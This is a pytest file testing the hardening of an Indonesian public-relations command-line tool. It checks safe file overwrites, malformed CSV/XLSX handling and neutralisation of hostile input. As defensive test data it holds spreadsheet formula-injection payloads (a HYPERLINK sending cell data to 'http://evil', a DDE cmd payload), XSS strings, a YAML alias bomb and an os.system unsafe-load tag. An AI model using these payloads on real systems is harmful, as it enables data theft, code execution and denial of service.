"""Every probe of the hardening issue, run as an attacker or a careless user would: each ends in
exit 2 with one Indonesian sentence (no traceback), leaves every input byte-identical and leaves
no stray file behind; or, where the input is legitimate, it is read correctly."""

from __future__ import annotations

import time
from pathlib import Path

import pandas as pd
import pytest
from support import run_cli

from humaskit.core.paths import data_dir

PLAN = data_dir() / "plans" / "hoaks-bansos.yaml"


def cli(*args) -> tuple[int, str, str]:
    result = run_cli(*args)
    return result.returncode, result.stdout, result.stderr


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def refused(code: int, err: str, *needles: str) -> None:
    assert code == 2, err
    assert "Traceback" not in err and err.startswith("Kesalahan data:"), err
    for needle in needles:
        assert needle in err, err


@pytest.fixture
def posts_csv(tmp_path):
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": [1, 2], "text": ["Ada pertanyaan? Tulis di komentar", "Selamat Hari Guru"]}).to_csv(
        src, index=False)
    return src


# -- data lost or damaged --------------------------------------------------------------------

def test_plan_export_onto_its_own_plan_is_refused(tmp_path):
    plan = tmp_path / "rencana.yaml"
    plan.write_bytes(PLAN.read_bytes())
    before = snapshot(tmp_path)
    for fmt in ("docx", "md"):
        refused(*cli("plan", "export", plan, "--format", fmt, "-o", plan, "--force")[::2], "masukan")
    assert snapshot(tmp_path) == before


def test_maturity_output_equal_to_an_input_is_refused(tmp_path):
    posts, comments = tmp_path / "posts.csv", tmp_path / "comments.csv"
    posts.write_bytes((data_dir() / "posts.csv").read_bytes())
    comments.write_bytes((data_dir() / "comments.csv").read_bytes())
    before = snapshot(tmp_path)
    code, _, err = cli("maturity", "--posts", posts, "--comments", comments, "--account", "kppsukamaju",
                       "-o", posts, "--force")
    refused(code, err, "masukan")
    assert snapshot(tmp_path) == before


def test_markdown_export_does_not_overwrite_an_existing_heatmap(tmp_path):
    png = tmp_path / "nota_matriks_risiko.png"
    png.write_bytes(b"my own picture")
    code, _, err = cli("plan", "export", PLAN, "--format", "md", "-o", tmp_path / "nota.md")
    refused(code, err, "sudah ada", "--force")
    assert snapshot(tmp_path) == {"nota_matriks_risiko.png": b"my own picture"}
    assert cli("plan", "export", PLAN, "--format", "md", "-o", tmp_path / "nota.md", "--force")[0] == 0
    assert png.read_bytes().startswith(b"\x89PNG")


def test_existing_outputs_are_kept_unless_forced(tmp_path, posts_csv):
    page = tmp_path / "buku.html"
    page.write_text("mine")
    refused(*cli("codebook", "-o", page)[::2], "sudah ada")
    out = tmp_path / "out.csv"
    out.write_text("mine")
    refused(*cli("classify", posts_csv, "--text-column", "text", "-o", out)[::2], "sudah ada")
    assert page.read_text() == "mine" and out.read_text() == "mine"
    assert cli("classify", posts_csv, "--text-column", "text", "-o", out, "--force")[0] == 0
    assert "label" in out.read_text()


def test_output_is_checked_before_any_work(tmp_path):
    started = time.perf_counter()
    code, _, err = cli("triage", tmp_path / "does-not-exist.csv", "--text-column", "x",
                       "-o", tmp_path / "hasil.json")
    refused(code, err, ".csv atau .xlsx")  # the output's suffix, not the missing input
    refused(*cli("classify", tmp_path / "x.csv", "--text-column", "x", "-o",
                 tmp_path / "no" / "o.csv")[::2], "folder tujuan tidak ada")
    refused(*cli("codebook", "-o", tmp_path)[::2], "folder")
    assert time.perf_counter() - started < 30  # no model was loaded, no table read


def test_one_unquoted_comma_per_row_is_refused_by_row(tmp_path):
    src = tmp_path / "komentar.csv"
    src.write_text("id,username,text\n1,@andi,halo, apa kabar\n2,@budi,NIK 3374011203990001, tolong\n",
                   encoding="utf-8")
    before = snapshot(tmp_path)
    code, _, err = cli("triage", src, "--text-column", "text", "-o", tmp_path / "o.csv")
    refused(code, err, "jumlah kolom", "Baris: 2, 3")
    assert snapshot(tmp_path) == before


def test_control_characters_reach_xlsx_without_a_crash_or_leftover(tmp_path):
    src = tmp_path / "in.csv"
    pd.DataFrame({"text": ["halo\x01\x0b dunia", "jam layanan 08.00"]}).to_csv(src, index=False)
    code, _, err = cli("classify", src, "--text-column", "text", "-o", tmp_path / "o.xlsx")
    assert code == 0, err
    assert pd.read_excel(tmp_path / "o.xlsx")["text"].tolist()[0] == "halo dunia"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "o.xlsx"]


# -- injection --------------------------------------------------------------------------------

EVIL = ['=HYPERLINK("http://evil/?x="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]


def test_formula_cells_are_neutralised_in_csv_and_text_in_xlsx(tmp_path):
    from openpyxl import load_workbook

    src = tmp_path / "in.csv"
    pd.DataFrame({"text": EVIL + ["-5", "biasa"], "angka": list(range(7))}).to_csv(src, index=False)
    assert cli("triage", src, "--text-column", "text", "-o", tmp_path / "o.csv")[0] == 0
    out = pd.read_csv(tmp_path / "o.csv", dtype=str)
    assert all(v.startswith("'") for v in out["text"][:5]) and out["text"][5] == "-5"
    # kept as written (--keep-column): "@SUM" would otherwise be pseudonymised as a handle
    assert cli("classify", src, "--text-column", "text", "-o", tmp_path / "o.xlsx",
               "--keep-column", "text")[0] == 0
    sheet = load_workbook(tmp_path / "o.xlsx").active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells[:5]] == EVIL


def test_markdown_memo_carries_no_html_links_or_scripts(tmp_path):
    from humaskit.response import plans

    plan = plans.load(PLAN)
    plan["issue"]["summary"] = ('<script>alert(1)</script> <img src=x onerror=alert(2)> '
                                '<iframe src="http://evil"></iframe> [klik](javascript:alert(3)) '
                                '![x](javascript:alert(4)) <javascript:alert(5)>')
    evil = tmp_path / "evil.yaml"
    evil.write_text(plans.dump(plan), encoding="utf-8")
    code, _, err = cli("plan", "export", evil, "--format", "md", "-o", tmp_path / "nota.md", "--draft")
    assert code == 0, err
    text = (tmp_path / "nota.md").read_text(encoding="utf-8")
    for bad in ("<script", "<img", "<iframe", "](javascript:", "javascript:", "<javascript"):
        assert bad not in text
    assert "&lt;script&gt;" in text


def test_html_reports_stay_escaped(tmp_path):
    from humaskit.core import templates

    page = templates.render("codebook.html.j2", labels=[], precedence="<script>x</script>", checklist=[],
                            examples={})
    assert "<script>x" not in page and "&lt;script&gt;" in page


# -- hangs and tracebacks ---------------------------------------------------------------------

BOMB = "\n".join([f'{c}: &{c} [{",".join(["*" + p] * 9)}]' for p, c in zip("abcdefgh", "bcdefghi",
                                                                             strict=True)])
BOMB = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + BOMB


@pytest.mark.parametrize("text, needle", [
    (BOMB, "anchor/alias"),
    ("x: " + "[" * 900 + "]" * 900, "terlalu dalam"),
    ("!!python/object/apply:os.system ['echo hi']", "YAML tidak sah"),
])
def test_hostile_yaml_is_refused_quickly(tmp_path, text, needle):
    plan = tmp_path / "rencana.yaml"
    plan.write_text(text, encoding="utf-8")
    started = time.perf_counter()
    for command in (("plan", "validate", plan), ("plan", "export", plan, "--format", "md",
                                                 "-o", tmp_path / "n.md")):
        refused(*cli(*command)[::2], needle)
    assert time.perf_counter() - started < 20
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rencana.yaml"]


def test_folders_and_wrong_shapes_are_explained(tmp_path):
    refused(*cli("plan", "validate", tmp_path)[::2], "folder")
    posts, comments = data_dir() / "posts.csv", data_dir() / "comments.csv"
    survey = tmp_path / "survei.yaml"
    survey.write_text("answers: {}\nprofile: [bio, website]\n", encoding="utf-8")
    base = ("maturity", "--posts", posts, "--comments", comments, "--account", "kppsukamaju")
    refused(*cli(*base, "--survey", survey)[::2], "profile")
    refused(*cli(*base, "--survey", tmp_path)[::2], "folder")


def test_utf16_from_excel_is_read(tmp_path, posts_csv):
    src = tmp_path / "unicode.txt"
    src.write_bytes("text\tid\nSilakan tanya di kolom komentar?\t1\n".encode("utf-16"))
    code, _, err = cli("classify", src, "--text-column", "text", "-o", tmp_path / "o.csv")
    assert code == 0, err
    assert pd.read_csv(tmp_path / "o.csv")["text"].tolist() == ["Silakan tanya di kolom komentar?"]


def test_xlsx_sheet_title_row_and_formulas(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    book.active.title = "Catatan"
    data = book.create_sheet("Komentar")
    data.append(["Laporan komentar Mei 2026"])
    data.merge_cells("A1:C1")
    data.append(["id", "teks", "nilai"])
    data.append([1, "Kapan bansos cair?", "=1+1"])
    data.append([2, "Terima kasih min", 3])
    src = tmp_path / "komentar.xlsx"
    book.save(src)
    code, _, err = cli("triage", src, "--text-column", "teks", "-o", tmp_path / "o.csv")
    assert code == 0, err
    assert "lembar 'Komentar'" in err and "baris ke-2" in err and "rumus tanpa nilai" in err
    out = pd.read_csv(tmp_path / "o.csv")
    assert out["teks"].tolist() == ["Kapan bansos cair?", "Terima kasih min"]
    refused(*cli("triage", src, "--text-column", "teks", "-o", tmp_path / "p.csv", "--sheet", "Data")[::2],
            "'Komentar'")
    assert cli("triage", src, "--text-column", "teks", "-o", tmp_path / "p.csv", "--sheet", "2")[0] == 0


def test_ragged_rows_get_an_indonesian_message_not_a_parser_error(tmp_path):
    src = tmp_path / "r.csv"
    src.write_text("a,b\n1,2\n3\n4,5,6\n", encoding="utf-8")
    code, _, err = cli("classify", src, "--text-column", "a", "-o", tmp_path / "o.csv")
    refused(code, err, "Baris: 3, 4")
    assert "C error" not in err and "Expected" not in err
